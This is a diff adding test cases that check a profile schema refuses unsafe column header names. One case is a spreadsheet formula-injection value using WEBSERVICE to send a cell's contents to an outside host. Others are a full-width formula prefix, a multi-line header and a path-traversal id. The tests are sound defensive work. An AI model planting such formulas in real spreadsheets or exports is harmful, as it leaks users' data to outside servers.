@@ -41,6 +41,9 @@ describe('a profile', () => {
       { columns: Array.from({ length: 201 }, (_, at) => ({ ...profile.columns[0], name: `${at}` })) },
     ],
     ['an id that is no file name', { id: '../x' }],
+    ['a header that calculates', { columns: [{ ...profile.columns[0], name: '=WEBSERVICE("http://x/"&A2)' }] }],
+    ['a header that calculates in full width', { columns: [{ ...profile.columns[0], name: '＋1' }] }],
+    ['a header of two lines', { columns: [{ ...profile.columns[0], name: 'あ\n=1' }] }],
   ])('is refused with %s', (_, changes) => {
     expect(with_(changes).success).toBe(false)
   })
